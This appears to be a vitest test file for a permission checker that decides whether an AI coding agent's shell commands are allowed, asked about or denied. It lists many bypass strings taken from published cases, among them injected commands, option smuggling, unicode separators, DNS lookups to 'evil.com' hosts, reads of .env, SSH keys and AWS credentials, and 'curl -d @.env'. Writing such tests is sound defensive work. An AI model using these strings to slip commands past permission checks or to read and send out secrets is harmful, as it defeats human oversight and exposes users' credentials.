import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { onCommand, type Given } from "./scene.ts";

/** What a person who has allowed the usual things has allowed. */
const benign: readonly string[] = [
  "Bash(echo:*)",
  "Bash(ls *)",
  "Bash(cat:*)",
  "Bash(git status)",
  "Bash(git status *)",
  "Bash(npm test)",
  "Bash(npm run build)",
  "Bash(touch a)",
];
const modes = ["prompt", "workspace-write"] as const;

const isRun = (command: string): boolean => modes.some((mode) => onCommand(command, { mode, allow: benign }).decision === "allow");

/** By the number of the published case they are taken from (design: safety, 1b and 1c). */
const attacks: readonly (readonly [number, string])[] = [
  [21, `echo "\\"; touch PWN; echo \\""; touch PWN`],
  [21, `echo '"'"; touch PWN; #'`],
  [21, "echo 'a\n'; touch PWN"],
  [21, "echo <<'EOF' x\nEOF\ntouch PWN"],
  [21, "cat <<EOF\n$(touch PWN)\nEOF"],
  [22, "echo `touch PWN`"],
  [22, 'echo "$(touch PWN)"'],
  [22, "ls $(touch PWN)"],
  [22, "cat <(touch PWN)"],
  [22, "echo $((a[$(touch PWN)]))"],
  [22, "ls & touch PWN"],
  [22, "ls\ntouch PWN"],
  [22, "ls |& tee PWN"],
  [23, "sed -n 'w PWN' f"],
  [23, "sed -n 'W PWN' f"],
  [23, "sed 's/a/b/w PWN' f"],
  [23, "sed 's/a/touch PWN/e' f"],
  [23, "sed -f script f"],
  [23, "sed --in-pl s/a/b/ f"],
  [23, "sed -ni p f"],
  [24, "cat$IFS/etc/passwd"],
  [24, "ls${IFS}-la"],
  [24, "grep -ni x f > PWN"],
  [24, "sort -uoPWN f"],
  [24, "sort -nOtouch f -o PWN"],
  [24, "tree -aoPWN"],
  [25, "man --html=touch x"],
  [25, "sort --compress-program=touch f"],
  [25, "history -a PWN"],
  [25, "curl --upload-pa x"],
  [25, "sed e f"],
  [25, "ls | xargs -I{} touch {}"],
  [25, "rg --pre touch x f"],
  [25, "rg -z x f"],
  [25, "echo ${x@P}"],
  [25, "echo ${x:=$(touch PWN)}"],
  [26, "find . -exec touch PWN ;"],
  [26, "find . -execdir touch PWN +"],
  [26, "find . '-exec' touch PWN ';'"],
  [26, "find . $'-\\x65xec' touch PWN ';'"],
  [26, "find . -{exec,x} touch PWN"],
  [26, "find . -fprint PWN"],
  [26, "find . -fls PWN"],
  [26, "find . -ok touch PWN ;"],
  [26, "find -L . -name x"],
  [26, "find . -files0-from f"],
  [27, "echo x | tee PWN"],
  [27, "cat f | sed 'w PWN'"],
  [27, "{ echo x; } > PWN"],
  [27, "(echo x) > PWN"],
  [27, "echo x > PWN"],
  [27, "echo x >> f"],
  [28, "echo x >| PWN"],
  [28, "echo x >! PWN"],
  [28, "echo x &> PWN"],
  [28, "echo x >& PWN"],
  [28, "echo x <> PWN"],
  [28, "ls 3>PWN"],
  [28, "ls {fd}>PWN"],
  [29, `${"true;".repeat(60)}touch PWN`],
  [29, `${"ls | ".repeat(60)}cat`],
  [29, `echo ${"a".repeat(5000)}; touch PWN`],
  [29, `${"true\n".repeat(60)}`],
  [30, "ls\rtouch PWN"],
  [30, "ls\u00a0-la"],
  [30, "ls\u000btouch PWN"],
  [30, "ls\u2003-la"],
  [30, "echo x\u0000touch PWN"],
  [30, "ls \u202e"],
  [30, "echo a\u200bb"],
  [30, "echo \u{e0041}"],
  [31, "git commit -m x > ~/.bashrc"],
  [31, "echo x > ~/.bashrc"],
  [32, "cd x && python y.py"],
  [32, "cd .. && ls"],
  [32, "cd /tmp && ls"],
  [33, "echo x && touch PWN"],
  [33, "cd sub && git status"],
  [33, "bash -c 'echo x > .claude/settings.json'"],
  [33, "A=1 touch PWN"],
  [33, "ls; rm -rf x"],
  [33, "echo x && rm -rf ."],
  [34, "echo ${!x}"],
  [34, "echo ${x:-$(touch PWN)}"],
  [34, "echo ${x/a/$(touch PWN)}"],
  [34, "echo $(echo $(touch PWN))"],
  [35, "export PAGER=touch && git log"],
  [35, "typeset -x PAGER=touch"],
  [35, "declare -x A=b; git log"],
  [35, "PYTHONWARNINGS=x ls"],
  [35, "export A"],
  [35, "printf -v PATH /tmp && ls"],
  [35, "printf -v 'a[$(touch PWN)]' x"],
  [35, "read -r PATH; ls"],
  [36, "sort --compress-prog=touch f"],
  [36, "sort --out=PWN f"],
  [36, "sed --se=x f"],
  [36, "git diff --outp=PWN"],
  [36, "git log --ext-d"],
  [36, "date --se=x"],
  [37, "env -S 'touch PWN'"],
  [37, "env -i touch PWN"],
  [37, "env"],
  [37, "env A=b"],
  [37, "timeout --signal=KILL 5 touch PWN"],
  [37, "nohup touch PWN"],
  [37, "nice -n 5 touch PWN"],
  [37, "command touch PWN"],
  [37, "exec touch PWN"],
  [37, "builtin eval touch PWN"],
  [37, "busybox touch PWN"],
  [38, "cat <<EOF\n`touch PWN`\nEOF"],
  [38, "cat <<-EOF\n\t${x:=$(touch PWN)}\n\tEOF"],
  [38, "cat <<< $(touch PWN)"],
  [39, "sort *"],
  [39, "ls /tmp/*"],
  [39, "cat *"],
  [39, 'find "$@"'],
  [39, "rg $x f"],
  [39, "git diff *"],
  [39, "l? -la"],
  [39, "/bin/l* x"],
  [39, "cat .e*"],
  [39, "cat ?env"],
  [40, "git diff -- /etc/passwd"],
  [40, ""],
  [40, "   "],
  [40, "# touch PWN"],
  [40, ";"],
  [40, ";;"],
  [41, "echo x > /etc/passwd"],
  [41, "cat < /etc/passwd"],
  [41, "cat f 2> PWN"],
  [41, "cat f 2>>/dev/null/x"],
  [41, "cat f > /dev/null/../PWN"],
  [42, "A=b sh -c 'touch PWN'"],
  [42, "sh -c 'touch PWN'"],
  [42, `"t""ouch" PWN`],
  [42, "\\touch PWN"],
  [42, "t\\ouch PWN"],
  [42, "$'touch' PWN"],
  [42, "eval touch PWN"],
  [42, ". ./x.sh"],
  [42, "source x.sh"],
  [43, "X=$(touch PWN) npm --version"],
  [43, "X=$(touch PWN) npm test"],
  [43, "X=$(touch PWN)"],
  [44, `npm test${" ".repeat(300)}; touch PWN`],
  [44, `npm test${"\n".repeat(100)}touch PWN`],
  [45, "ls && touch PWN"],
  [45, "ls || touch PWN"],
  [45, "ls ; touch PWN"],
  [45, "ls | touch PWN"],
  [45, "! touch PWN"],
  [45, "time touch PWN"],
  [45, "coproc touch PWN"],
  [45, "if true; then touch PWN; fi"],
  [45, "while touch PWN; do :; done"],
  [45, "f() { touch PWN; }; f"],
  [45, "[[ -f x ]] || touch PWN"],
  [45, "[[ -v a[$(touch PWN)] ]]"],
  [45, "((a[$(touch PWN)]))"],
  [45, "let 'a[$(touch PWN)]'"],
  [45, "case x in x) touch PWN;; esac"],
  [46, "git -c core.fsmonitor=touch status"],
  [46, "git -c core.pager=touch log"],
  [46, "git -C /tmp status"],
  [46, "git --git-dir=/tmp/x log"],
  [46, "git --exec-path=/tmp log"],
  [46, "git -p log"],
  [46, "git log --output=PWN"],
  [46, "git diff --ext-diff"],
  [46, "git diff --textconv"],
  [46, "git show --format=%GG"],
  [46, "git branch -D main"],
  [46, "git branch new"],
  [46, "git config --get x"],
  [46, "git status && cd /x && git status"],
  [46, "git diff --no-index /etc/passwd f"],
  [46, "git rev-parse --parseopt"],
  [46, "git grep -O x"],
  [47, "uniq in OUT"],
  [47, "test -v 'a[$(touch PWN)]'"],
  [47, "[ -R x ]"],
  [47, "test 'a[$(touch PWN)]' -eq 1"],
  [47, "date -s x"],
  [47, "date 010100002000"],
  [47, "file -C -m x"],
  [47, "tree -R -H ."],
  [47, "diff a --to-file=x"],
  [47, "grep -f /etc/passwd f"],
  [47, "wc --files0-from=x"],
  [47, "du --files0-from=x"],
  [47, "cut -f1 --output-delimiter x"],
  [47, "stat -Z x --bogus"],
  [48, "cat /w-evil/x"],
  [48, "ls ../w-evil"],
  [49, "cat a/../../etc/passwd"],
  [55, "sed -i s/a/b/ f"],
  [61, "ping -c 1 secret.evil.com"],
  [61, "nslookup x.evil.com"],
  [61, "dig x.evil.com"],
];

describe("published attacks never run unasked", () => {
  test.each(attacks)("case %i: %j", (_number, command) => {
    expect(isRun(command)).toBe(false);
  });
});

describe("secrets are not read without a question", () => {
  test.each([
    "cat .env",
    "cat ./.env",
    "cat sub/../.env",
    "cat .ENV",
    "cat .env.production",
    "head -c 100 .env",
    "grep x .env",
    "rg x .env",
    "cat server.pem",
    "cat id_rsa",
    "cat ~/.aws/credentials",
    "cat ~/.netrc",
    "git show HEAD:.env",
    "git diff -- .env",
    "git log -p -- .env",
    "diff .env f",
    "sort .env",
    "cut -d= -f2 .env",
    "nl .env",
    "cat -- .env",
    "cat f .env",
    "rg -e x -- .env",
    "rg --files .ssh",
    "cat .npmrc",
    "cat .git-credentials",
    "cat /proc/self/environ",
    "tail -n 5 .env",
    "wc -c .env",
    "cmp .env f",
    "cat '.env'",
    'cat .e"n"v',
    "cat $'.\\x65nv'",
  ])("%s", (command) => {
    expect([
      onCommand(command).decision,
      onCommand(command, { mode: "allow", allow: ["Bash"] }).decision,
      onCommand(command, { mode: "danger-full-access" }).decision,
    ]).toEqual(["ask", "ask", "allow"]);
  });

  test.each(["cat .env.example", "cat id_rsa.pub", "ls .env", "find . -name .env", "cat environment.ts", "cat src/key.ts", "grep .env README.md"])(
    "%s is none",
    (command) => {
      // `ls` reads no content, but its operand is a file like any other: it asks.
      expect(onCommand(command).decision).toBe(command === "ls .env" ? "ask" : "allow");
    },
  );
});

describe("deny rules hold however the command is written", () => {
  const given: Given = { mode: "allow", allow: ["Bash"], deny: ["Bash(touch:*)"] };

  test.each([
    "touch a",
    "\\touch a",
    "'touch' a",
    "t''ouch a",
    "$'\\x74ouch' a",
    "/bin/touch a",
    "./touch a",
    "touch",
    "(touch a)",
    "{ touch a; }",
    "touch a &",
    "if touch a; then :; fi",
    "for x in $(touch a); do :; done",
    "f() { touch a; }; f",
    "echo `touch a`",
    'echo "$(touch a)"',
    "cat <(touch a)",
    "x=$(touch a)",
    "A=b touch a",
    "echo ${x:-$(touch a)}",
    "cat <<EOF\n$(touch a)\nEOF",
    "bash <<EOF\ntouch a\nEOF",
    "bash <<< 'touch a'",
    "bash -c 'touch a'",
    'bash -c "touch a"',
    "bash -lc 'true; touch a'",
    "bash -o pipefail -c 'touch a'",
    "sh -c \"sh -c 'touch a'\"",
    "eval 'touch a'",
    "eval touch a",
    "eval 't''ouch' a",
    "env touch a",
    "env A=b touch a",
    "env -i touch a",
    "env -S 'touch a'",
    "xargs touch",
    "echo a | xargs -n 1 touch",
    "find . -exec touch {} +",
    "find . -exec sh -c 'touch a' ;",
    "sudo touch a",
    "sudo -u root touch a",
    "nohup touch a",
    "nice -n 3 touch a",
    "timeout -k 1 5 touch a",
    "time touch a",
    "! touch a",
    "command touch a",
    "builtin touch a",
    "exec touch a",
    "setsid touch a",
    "stdbuf -o0 touch a",
    "busybox touch a",
    "watch 'touch a'",
    "ssh host touch a",
    "su -c 'touch a'",
    "trap 'touch a' EXIT",
    "coproc touch a",
    "touch\ta",
    "touch \\\n a",
    "ls\ntouch a",
    "case x in x) touch a;; esac",
    "while :; do touch a; done",
    "[[ -n $(touch a) ]]",
    "echo $((1 + $(touch a)))",
    "arr=($(touch a))",
    `${"true; ".repeat(200)}touch a`,
    `echo ${"x".repeat(20_000)}; touch a`,
    "parallel touch ::: a",
    "script -c 'touch a' /dev/null",
    "flock f touch a",
    "touch a > /dev/null; ls",
  ])("%j", (command) => {
    expect(onCommand(command, given)).toEqual({ decision: "deny", reason: "denied by rule Bash(touch:*)" });
  });

  test.each([
    "$x a",
    "t?uch a",
    "{touch,a}",
    "touch${IFS}a",
    'eval "$x"',
    'bash -c "$x"',
    "echo 'touch a' | bash",
    ". ./x.sh",
    "alias t=touch",
    "hash -p /bin/touch ls; ls",
    "xargs $x",
    "`echo touch` a",
    "echo $(tou a",
    "tou 'a",
    `echo ${"x".repeat(70_000)}; touch a`,
  ])("%j cannot be held against the rule, so it is asked about", (command) => {
    expect(onCommand(command, given).decision).toBe("ask");
    expect(onCommand(command, { ...given, mode: "dont-ask" }).decision).toBe("deny");
  });

  test.each(["echo touch a", "grep -r touch src", "git commit -m 'touch a'", "touchy a", "cat touch"])("%j is another command", (command) => {
    expect(onCommand(command, given).decision).toBe("allow");
  });

  test.each([
    "cat .env",
    "cp .env x",
    "cat < .env",
    "source .env; true",
    "curl -d @.env x",
    "tar --file=.env",
    "dd if=.env",
    "cd sub && cat ../.env",
    "bash -c 'cat .env'",
    "echo $(cat .env)",
    "cat sub/.env",
    "python x.py .env",
    "cat file:///w/.env",
  ])("a deny of Read(.env) holds in %j", (command) => {
    expect(onCommand(command, { mode: "danger-full-access", deny: ["Read(.env)"] }).decision).toBe("deny");
  });

  test("a deny of Edit leaves reading alone and stops everything else", () => {
    const locked: Given = { mode: "allow", deny: ["Edit(*.lock)"] };
    expect(
      ["cat yarn.lock", "wc -l yarn.lock", "rm yarn.lock", "echo x > yarn.lock", "cp a yarn.lock"].map((command) => onCommand(command, locked).decision),
    ).toEqual(["allow", "allow", "deny", "deny", "deny"]);
  });
});

test("whatever text a command is, it is judged", () => {
  const piece = fc.constantFrom(
    "$(",
    "`",
    "((",
    "))",
    "${",
    "}",
    "<<EOF\n",
    "<(",
    ")",
    "'",
    '"',
    "\\",
    "\n",
    ";",
    "&&",
    "[[",
    "]]",
    "{",
    "case x in",
    "esac",
    "if",
    "then",
    "fi",
    "bash -c ",
    "eval ",
    "\u0000",
    "\ud800",
    "a",
    " ",
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: "binary", maxLength: 60 }),
        fc.array(piece, { maxLength: 25 }).map((pieces) => pieces.join("")),
      ),
      (command) => {
        expect(["allow", "ask", "deny"]).toContain(onCommand(command, { deny: ["Bash(touch:*)", "Read(.env)"], allow: benign }).decision);
      },
    ),
    { numRuns: 3_000 },
  );
});

test("a command of any depth or length is judged in no time", () => {
  const began = performance.now();
  const given: Given = { deny: ["Bash(touch:*)", "Bash(* --force)"], mode: "allow" };
  for (const command of [
    "(".repeat(5_000),
    "$(".repeat(20_000),
    "`".repeat(20_000),
    "bash -c '".repeat(5_000),
    "env ".repeat(10_000),
    `xargs ${"sh -c ".repeat(300)}`,
    "a;".repeat(30_000),
    `${"eval ".repeat(5_000)}x`,
    "{a,".repeat(10_000),
    "<<E\n".repeat(10_000),
    `find . ${"-exec a ".repeat(5_000)}`,
    `find . ${"-exec a ".repeat(100)}`,
    `xargs ${"sh -c ".repeat(99)}`,
    `xargs ${"find . -exec ".repeat(60)}`,
    `echo ${"a ".repeat(30_000)}`,
    `rm ${"a/../b ".repeat(9_000)}`,
  ]) {
    expect(onCommand(command, given).decision).not.toBe("deny");
  }
  expect(performance.now() - began).toBeLessThan(15_000);
});

describe("links", () => {
  test("a link that leads outside is outside", () => {
    const links = { "/w/docs": "/etc" };
    expect([
      onCommand("cat docs/passwd", { links }).decision,
      onCommand("ls docs", { links }).decision,
      onCommand("cat docs/passwd", { links, allow: ["Bash(cat:*)"] }).decision,
    ]).toEqual(["ask", "ask", "ask"]);
  });

  test("`..` after a link is not taken out of the path", () => {
    expect(onCommand("cat docs/../f", { links: { "/w/docs": "/etc" } }).decision).toBe("ask");
    expect(onCommand("cd docs && cat ../f", { links: { "/w/docs": "/etc/x" } }).decision).toBe("ask");
  });

  test("a link made by the same command is not read through", () => {
    const given: Given = { allow: ["Bash(make links)"] };
    expect([
      onCommand("make links && cat x", given).decision,
      onCommand("make links && ls", given).decision,
      onCommand("cat x && make links", given).decision,
    ]).toEqual(["ask", "allow", "allow"]);
  });

  test("a link to a protected file is named with where it leads", () => {
    expect(onCommand("cp x innocent.txt", { allow: ["Bash(cp:*)"], links: { "/w/innocent.txt": "/w/.claw/settings.json" } })).toEqual({
      decision: "ask",
      reason: "innocent.txt leads to .claw/settings.json, which is protected",
    });
  });
});

describe("what nobody allowed stays asked about, whatever is put around it", () => {
  const honest = [
    "ls -la",
    "cat src/a.ts",
    "git status",
    "git log --oneline -5",
    "grep -n x src/a.ts",
    "find . -name x",
    "wc -l f",
    "head -20 f",
    "echo hi",
    "pwd",
    "npm test",
    "npm run build",
    "touch a",
    "test -f x",
    "sort f | uniq -c",
    "diff a b",
    "rg -n x src",
  ];

  test("the honest commands run", () => {
    expect(honest.filter((command) => !isRun(command))).toEqual([]);
  });

  test.each([
    "; touch PWN",
    " && touch PWN",
    " || touch PWN",
    " | touch PWN",
    "\ntouch PWN",
    " & touch PWN",
    " > ~/.bashrc",
    " >> f",
    " > PWN",
    " 2> PWN",
    " &> PWN",
    " >| PWN",
    " < /etc/passwd",
    " $(touch PWN)",
    " `touch PWN`",
    " <(touch PWN)",
    " ${x@P}",
    "; cat .env",
    " | tee PWN",
    " | bash",
    " | xargs touch",
  ])("an honest command with %j after it", (suffix) => {
    expect(honest.filter((command) => isRun(command + suffix))).toEqual([]);
  });

  test.each([
    "X=$(touch PWN) ",
    "X=1 ",
    "touch PWN; ",
    "touch PWN && ",
    "bash -c 'touch PWN'; ",
    "cd /tmp && ",
    "sudo ",
    "exec ",
    "export A=b; ",
    "set -- x; ",
    "trap 'touch PWN' EXIT; ",
    "f() { touch PWN; }; f; ",
    "(touch PWN); ",
    "2>PWN ",
  ])("an honest command with %j before it", (prefix) => {
    expect(honest.filter((command) => isRun(prefix + command))).toEqual([]);
  });

  test("a program run in another folder is asked about, even if its rule fits", () => {
    expect([
      onCommand("npm test", { allow: benign }, "/tmp").decision,
      onCommand("npm test", { allow: benign }, "/w/sub").decision,
      onCommand("ls", {}, "/tmp").decision,
      onCommand("git status", {}, "/w/sub").decision,
    ]).toEqual(["ask", "allow", "ask", "ask"]);
  });

  test("whatever is allowed unasked changes nothing when bash really runs it", { timeout: 60_000 }, () => {
    const folder = mkdtempSync(join(tmpdir(), "claw-judged-"));
    try {
      for (const file of ["a", "b", "-n", "f"]) writeFileSync(join(folder, file), "x\n");
      const before = readdirSync(folder).sort();
      const words = [
        "ls",
        "cat",
        "echo",
        "sort",
        "uniq",
        "find",
        "grep",
        "test",
        "wc",
        "touch",
        "a",
        "b",
        "f",
        "PWN",
        "-n",
        "-o",
        "-exec",
        "-la",
        "x",
        ".",
        "{}",
        "+",
        "*",
        "'a'",
        '"b"',
        "\\;",
        "$x",
        "$(touch PWN)",
        "`touch PWN`",
        "A=b",
        "''",
        "-oPWN",
        "tee",
        "xargs",
        "true",
        "printf",
        "-v",
      ];
      const joins = [" ", " ", " ", " ", "; ", " && ", " || ", " | ", "\n", " > ", " >> ", " & ", " 2>/dev/null ", "(", ")", "{ ", "; }", "#", "!"];
      const hostile = fc
        .array(fc.tuple(fc.constantFrom(...words), fc.constantFrom(...joins)), { minLength: 1, maxLength: 7 })
        .map((parts) => parts.map((pair) => pair.join("")).join(""));
      let ran = 0;
      fc.assert(
        fc.property(hostile, (command) => {
          if (ran >= 150 || onCommand(command).decision !== "allow") return;
          ran += 1;
          try {
            execFileSync("bash", ["--norc", "--noprofile", "-c", command], {
              cwd: folder,
              stdio: ["ignore", "ignore", "ignore"],
              timeout: 5_000,
              env: { PATH: process.env["PATH"] ?? "" },
            });
          } catch {
            // That it fails is its own business: what counts is what it left behind.
          }
          expect(readdirSync(folder).sort()).toEqual(before);
        }),
        { numRuns: 20_000, seed: 7 },
      );
      expect(ran).toBe(150);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
